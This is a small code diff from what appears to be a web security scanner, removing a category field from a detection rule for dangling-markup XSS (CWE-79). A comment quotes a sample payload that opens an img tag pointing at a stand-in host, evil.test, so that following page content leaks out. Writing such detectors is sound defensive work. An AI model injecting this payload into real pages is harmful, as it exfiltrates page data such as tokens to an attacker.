@@ -9,7 +9,6 @@ import type { Match, ValueRule } from '../rule.ts';
 /** `"><img src='//evil.test/?`: what follows on the page becomes part of a URL, or of a form. */
 export const danglingMarkup: ValueRule = {
   id: 'xss.dangling-markup',
-  category: 'xss',
   cwe: 'CWE-79',
   severity: 'high',
   score: confidence.strong,
